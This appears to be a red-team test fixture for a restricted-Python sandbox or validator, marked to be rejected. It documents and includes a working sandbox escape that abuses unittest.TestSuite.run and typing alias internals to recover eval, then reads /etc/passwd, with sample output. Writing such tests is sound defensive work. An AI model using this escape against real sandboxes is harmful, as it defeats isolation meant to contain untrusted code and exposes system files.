# expect: reject method
# line: 34
# verified: reaches its goal under plain python3 (3.11) in a temp dir (a private typing class, eval, /etc/passwd read)
# why: fourteenth red team (14b), family T: typing.List added as a test: its class typing._SpecialGenericAlias lands in the program's result

# Mechanism (section 3): unittest.TestSuite.run(result) runs _handleClassSetUp and stores
#   `result._previousTestClass = test.__class__` for every test. A "test" may be any callable
#   library object that is not iterable: `typing.List` (a typing._SpecialGenericAlias) is accepted
#   by addTest, so the *private typing class* `typing._SpecialGenericAlias` lands in the program's
#   closed result class, read back through `self._previousTestClass` in its own method.
#   (Calling the "test" afterwards raises TypeError, caught.) With that class:
#   K(list, 1, name="__builtins__").copy_with(("eval",)) is a typing._GenericAlias named
#   "__builtins__" whose reduce indexes typing's globals: copy.deepcopy hands back builtins' eval.
#   No builtin `type` is involved at all.
# Goal reached: a private standard-library class as a value -> eval -> open() reads /etc/passwd.
# No dunder name is given to a builtin at run time ("__builtins__" is the alias's name= keyword).
# Output seen under python3 (3.11.7), in a fresh temp dir:
#   <class 'typing._SpecialGenericAlias'>
#   <built-in function eval>
#   root:x:0:0:root:/root:/bin/bash
#   daemon:x:1:1:daemon:/usr/sbin:/u
import unittest
import typing
import copy

class Res:
    shouldStop = False
    _moduleSetUpFailed = False

    def previous(self):
        return self._previousTestClass

s = unittest.TestSuite()
s.addTest(typing.List)
r = Res()
try:
    s.run(r)
except TypeError:
    pass
K = r.previous()
print(K)
ev = copy.deepcopy(K(list, 1, name="__builtins__").copy_with(("eval",)))
print(ev)
print(ev("open('/etc/passwd').read()")[:64])
